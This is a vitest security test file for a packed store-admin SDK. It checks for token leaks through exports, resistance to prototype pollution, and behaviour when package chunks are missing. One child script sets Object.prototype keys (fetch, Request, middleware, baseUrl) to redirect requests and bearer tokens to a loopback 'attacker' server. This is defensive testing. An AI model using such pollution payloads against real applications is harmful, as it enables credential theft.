/**
 * What the installed package guarantees to the code around it, against the packed tarball in a
 * fresh project, each in a child process:
 *
 * - No export of any entry of `exports` hands out the token, and none is untyped or a table a
 *   caller can change: every runtime export is declared, exported tables are frozen, and a walk
 *   of every export (own properties, and each function called with a client) finds no token.
 * - A polluted `Object.prototype` (`baseUrl`, `fetch`, `middleware`, … written by some parser of
 *   hostile input) does not redirect a call: a store and an "attacker" server on loopback, and
 *   the attacker receives nothing, through the operation methods and the path style.
 * - The error chunk lost under a running process (renamed after the import): a 503 GET is
 *   still retried, and a 404 rejects with an error that is `instanceof StoreAdminError`, with
 *   its status and the load error as `cause`.
 */
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { readdirSync, readFileSync } from "node:fs";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import ts from "typescript";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fileKey } from "../../scripts/file-keys.js";
import { createConsumerProject, describeRun, pinnedVersion, run, type ConsumerProject } from "./tarball.js";

const SETUP_TIMEOUT_MS = 300_000;
const TOKEN = "tok_Secr3tValue_0123456789abcdef";

let project: ConsumerProject | undefined;

/** A loopback server that records every request and answers with `answer`. */
interface Recorder {
  url: string;
  requests: Array<{ method: string; url: string; authorization: string | undefined }>;
  server: Server;
}

function recorder(
  answer: (request: IncomingMessage, count: number) => { status: number; body: unknown },
): Promise<Recorder> {
  const requests: Recorder["requests"] = [];
  const server = createServer((request, response) => {
    requests.push({ method: request.method!, url: request.url!, authorization: request.headers.authorization });
    const { status, body } = answer(request, requests.length);
    const text = JSON.stringify(body);
    response
      .writeHead(status, { "content-type": "application/json", "content-length": Buffer.byteLength(text) })
      .end(text);
  });
  return new Promise((resolve) =>
    server.listen(0, "127.0.0.1", () =>
      resolve({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, server }),
    ),
  );
}

const stop = (recorders: Array<Recorder | undefined>) =>
  Promise.all(recorders.map((r) => r && new Promise<void>((resolve) => r.server.close(() => resolve()))));

/** Runs `source` as an ES module in the consumer project; its stdout's last line is JSON. */
async function child(name: string, source: string, args: string[] = []): Promise<unknown> {
  const file = join(project!.dir, name);
  await writeFile(file, source);
  const result = await run(process.execPath, [file, ...args], { cwd: project!.dir, timeoutMs: 60_000 });
  expect(result.code, describeRun(`node ${name}`, result)).toBe(0);
  return JSON.parse(result.stdout.trim().split("\n").at(-1)!);
}

beforeAll(async () => {
  // The optional peers of the entries that need them, so that every entry loads.
  const peers = ["bullmq", "ioredis", "@modelcontextprotocol/sdk", "oauth4webapi"];
  project = await createConsumerProject(
    await Promise.all(peers.map(async (name) => `${name}@${await pinnedVersion(name)}`)),
  );
}, SETUP_TIMEOUT_MS);

afterAll(async () => {
  await project?.remove();
});

/** The entries of `exports` (but package.json), as specifiers, with their declaration files. */
function entries(): Array<{ specifier: string; types: string }> {
  const pkg = ts.readConfigFile(join(project!.dir, "node_modules", "store-admin-sdk", "package.json"), ts.sys.readFile)
    .config as {
    exports: Record<string, string | { types: string }>;
  };
  return Object.entries(pkg.exports).flatMap(([subpath, target]) =>
    typeof target === "object"
      ? [
          {
            specifier: `store-admin-sdk${subpath.slice(1)}`,
            types: join(project!.dir, "node_modules", "store-admin-sdk", target.types),
          },
        ]
      : [],
  );
}

/** The value names each declaration file exports (types left out). */
function declaredValues(types: string): string[] {
  const program = ts.createProgram([types], { noEmit: true, skipLibCheck: true });
  const checker = program.getTypeChecker();
  const module = checker.getSymbolAtLocation(program.getSourceFile(types)!)!;
  return checker
    .getExportsOfModule(module)
    .filter(
      (symbol) =>
        ((symbol.flags & ts.SymbolFlags.Alias ? checker.getAliasedSymbol(symbol) : symbol).flags &
          ts.SymbolFlags.Value) !==
        0,
    )
    .map((symbol) => symbol.name)
    .sort();
}

const EXPORTS_PROBE = `
const [token, specifiers] = [process.argv[2], process.argv.slice(3)];
const { createStoreAdminClient } = await import("store-admin-sdk");
const client = createStoreAdminClient({ apiUrl: "http://127.0.0.1:9", accessToken: token });
const found = [], mutable = [], names = {};
const seen = new Set();
// Every value reachable through own properties (getters left alone), to a bounded depth.
function visit(value, path, depth) {
  if (typeof value === "string") { if (value.includes(token)) found.push(path); return; }
  if (value === null || (typeof value !== "object" && typeof value !== "function") || seen.has(value) || depth > 6) return;
  seen.add(value);
  for (const key of Reflect.ownKeys(value)) {
    const descriptor = Object.getOwnPropertyDescriptor(value, key);
    if (descriptor && "value" in descriptor) visit(descriptor.value, path + "." + String(key), depth + 1);
  }
}
const settle = (value) => Promise.race([Promise.resolve(value).catch((error) => error), new Promise((r) => setTimeout(r, 200))]);
for (const specifier of specifiers) {
  const module = await import(specifier);
  names[specifier] = Object.keys(module).sort();
  for (const [name, value] of Object.entries(module)) {
    visit(value, specifier + ":" + name, 0);
    if (value !== null && typeof value === "object") {
      // A table: changing it must fail, and nothing may change.
      const before = JSON.stringify(value);
      try { value.__changed = 1; Object.assign(value, { [Object.keys(value)[0] ?? "x"]: "changed" }); } catch {}
      if (!Object.isFrozen(value) || JSON.stringify(value) !== before) mutable.push(specifier + ":" + name);
    }
    if (typeof value === "function" && !/^class\\b/.test(Function.prototype.toString.call(value))) {
      // Each function called with a client, as code that wants the token would.
      let result;
      try { result = value(client, { fetch: (f) => f }); } catch (error) { result = error; }
      visit(await settle(result), specifier + ":" + name + "(client)", 0);
    }
  }
}
console.log(JSON.stringify({ found, mutable, names }));
process.exit(0);
`;

describe("the exports of every entry", () => {
  it("declare every runtime export, hand out no token and no table a caller can change", async () => {
    const list = entries();
    expect(list.map((entry) => entry.specifier)).toEqual([
      "store-admin-sdk",
      "store-admin-sdk/testing",
      "store-admin-sdk/bulk",
      "store-admin-sdk/bulk/bullmq",
      "store-admin-sdk/mcp",
      "store-admin-sdk/plugins",
      "store-admin-sdk/schemas",
      "store-admin-sdk/oauth",
    ]);
    const { found, mutable, names } = (await child("exports-probe.mjs", EXPORTS_PROBE, [
      TOKEN,
      ...list.map((entry) => entry.specifier),
    ])) as {
      found: string[];
      mutable: string[];
      names: Record<string, string[]>;
    };
    for (const { specifier, types } of list)
      expect(names[specifier], `${specifier}: runtime exports = declared exports`).toEqual(declaredValues(types));
    expect(found, "exports through which the token is reachable").toEqual([]);
    expect(mutable, "exported tables a caller can change").toEqual([]);
  }, 120_000);

  it("keeps the shared internals out of reach of the package's importers", async () => {
    const result = await run(process.execPath, ["--input-type=module", "-e", 'await import("#shared")'], {
      cwd: project!.dir,
    });
    expect(result.code).not.toBe(0);
    expect(result.stderr).toContain("ERR_PACKAGE_IMPORT_NOT_DEFINED");
    const deep = await run(
      process.execPath,
      ["--input-type=module", "-e", 'await import("store-admin-sdk/dist/src/shared.js")'],
      { cwd: project!.dir },
    );
    expect(deep.stderr).toContain("ERR_PACKAGE_PATH_NOT_EXPORTED");
  });
});

const POLLUTED_CALLS = `
const [storeUrl, attackerUrl, token] = process.argv.slice(2);
const { createStoreAdminClient } = await import("store-admin-sdk");
const steal = (input, init) => fetch(attackerUrl + "/stolen-by-fetch", { headers: init?.headers });
// What a parser of hostile input writes (a "__proto__" key in a CSV header or JSON line), and worse.
Object.prototype.baseUrl = attackerUrl;
Object.prototype.apiUrl = attackerUrl;
Object.prototype.fetch = steal;
Object.prototype.Request = class extends Request { constructor(url, init) { super(attackerUrl + "/stolen-by-request", init); } };
Object.prototype.pathSerializer = () => "/stolen-by-path-serializer";
Object.prototype.middleware = [{ onRequest: ({ request }) => new Request(attackerUrl + "/stolen-by-middleware", request) }];
Object.prototype.requestInitExt = { dispatcher: undefined };
const outcomes = [];
const attempt = async (label, call) => {
  try { await call(); outcomes.push(label + ": ok"); } catch (error) { outcomes.push(label + ": " + error.message); }
};
for (const options of [{ apiUrl: storeUrl, accessToken: token }, { baseUrl: storeUrl, accessToken: token }]) {
  await attempt("create", async () => {
    const store = createStoreAdminClient(options);
    await attempt("method", () => store.users.retrieve(1));
    await attempt("method with options", () => store.users.retrieve(1, { timeoutMs: 5000 }));
    await attempt("path style", async () => { const { error } = await store.GET("/users/{id}/", { params: { path: { id: 1 } } }); if (error) throw new Error("error"); });
    await attempt("list", async () => { for await (const user of store.users.list()) void user; });
  });
}
for (const key of ["baseUrl", "apiUrl", "fetch", "Request", "pathSerializer", "middleware", "requestInitExt"]) delete Object.prototype[key];
console.log(JSON.stringify(outcomes));
`;

describe("a polluted Object.prototype", () => {
  let store: Recorder | undefined;
  let attacker: Recorder | undefined;
  beforeAll(async () => {
    store = await recorder((request) => ({
      status: 200,
      body: request.url!.includes("/users/1/") ? { id: 1 } : { results: [{ id: 1 }], next: null },
    }));
    attacker = await recorder(() => ({ status: 200, body: { id: 1 } }));
  });
  afterAll(() => stop([store, attacker]));

  it("sends every call to the store and none to another host, through the methods and the path style", async () => {
    const outcomes = await child("polluted.mjs", POLLUTED_CALLS, [store!.url, attacker!.url, TOKEN]);
    expect(attacker!.requests).toEqual([]);
    const calls = ["method", "method with options", "path style", "list"];
    expect(outcomes).toEqual([
      ...calls.map((call) => `${call}: ok`),
      "create: ok",
      ...calls.map((call) => `${call}: ok`),
      "create: ok",
    ]);
    expect(store!.requests.map((request) => request.url.replace(/^\/api\/admin/, ""))).toEqual(
      Array(2).fill(["/users/1/", "/users/1/", "/users/1/", "/users/"]).flat(),
    );
    expect(new Set(store!.requests.map((request) => request.authorization))).toEqual(new Set([`Bearer ${TOKEN}`]));
  });
});

const LOST_TABLES = `
const [storeUrl, chunk] = process.argv.slice(2);
const { createStoreAdminClient, StoreAdminError } = await import("store-admin-sdk");
const { renameSync } = await import("node:fs");
// The package replaced under the running process before its first call: the tables' chunk is gone.
renameSync(chunk, chunk + ".old");
const store = createStoreAdminClient({ apiUrl: storeUrl, accessToken: "token" });
const report = {};
for (const [name, call] of [["method", () => store.users.retrieve(1)], ["path style", () => store.GET("/users/{id}/", { params: { path: { id: 1 } } })]]) {
  try {
    await call();
    report[name] = "answered";
  } catch (error) {
    report[name] = { base: error instanceof StoreAdminError, name: error.name, message: error.message, causeCode: error.cause?.code };
  }
}
// Put back (the upgrade finished): the next call loads the tables and is sent.
renameSync(chunk + ".old", chunk);
report.after = (await store.users.retrieve(1)).id;
console.log(JSON.stringify(report));
`;

describe("a lost tables chunk", () => {
  let store: Recorder | undefined;
  beforeAll(async () => {
    store = await recorder(() => ({ status: 200, body: { id: 1, email: "a@example.com" } }));
  });
  afterAll(() => stop([store]));

  it("fails the first calls with an SDK error that says nothing was sent, and the next call after it is back is sent", async () => {
    const chunks = join(project!.dir, "node_modules", "store-admin-sdk", "dist", "chunks");
    const chunk = join(chunks, readdirSync(chunks).find((name) => /^operation-tables-.*\.js$/.test(name))!);
    const report = (await child("lost-tables.mjs", LOST_TABLES, [store!.url, chunk])) as Record<string, unknown>;
    const lost = {
      base: true,
      name: "StoreAdminError",
      message: "Not sent: the SDK's operation tables did not load",
      causeCode: "ERR_MODULE_NOT_FOUND",
    };
    expect(report).toEqual({ method: lost, "path style": lost, after: 1 });
    expect(store!.requests).toHaveLength(1);
  });
});

const LOST_KIT_MODULE = `
const [chunk] = process.argv.slice(2);
const { createStoreAdminClient, ApiError } = await import("store-admin-sdk");
const { createMockStore } = await import("store-admin-sdk/testing");
const { renameSync } = await import("node:fs");
// One operation's module of the kit is gone: its requests fail as the kit's own failure.
renameSync(chunk, chunk + ".old");
const mock = createMockStore();
const store = createStoreAdminClient({ apiUrl: mock.url, accessToken: "token", fetch: mock.fetch, maxRetries: 0 });
const report = {};
try {
  await store.users.retrieve(1);
  report.lost = "answered";
} catch (error) {
  report.lost = { api: error instanceof ApiError, name: error.name, status: error.status, message: error.message };
}
renameSync(chunk + ".old", chunk);
report.after = typeof (await store.users.retrieve(1)).id;
console.log(JSON.stringify(report));
`;

describe("a lost module of the testing kit", () => {
  it("answers 500 saying the kit could not load the operation's module, not a broken connection; back, it answers", async () => {
    const chunks = join(project!.dir, "node_modules", "store-admin-sdk", "dist", "chunks");
    // GET /users/{id}/'s kit module (its response validators' module carries the same key), as esbuild's comment names it.
    const chunk = join(
      chunks,
      readdirSync(chunks).find(
        (name) =>
          name.startsWith(`${fileKey("getUser", "getUser")}-`) &&
          name.endsWith(".js") &&
          readFileSync(join(chunks, name), "utf8").includes("// generated/testing/ops/"),
      )!,
    );
    const report = (await child("lost-kit-module.mjs", LOST_KIT_MODULE, [chunk])) as {
      lost: { api: boolean; name: string; status: number; message: string };
      after: string;
    };
    expect(report.lost).toMatchObject({ api: true, status: 500 });
    expect(report.lost.message).toMatch(
      /The testing kit could not load the module of GET \/users\/\{id\}\/ \(ERR_MODULE_NOT_FOUND\): the package is incomplete, or was replaced while this process ran\./,
    );
    expect(report.after).toBe("number");
  });
});
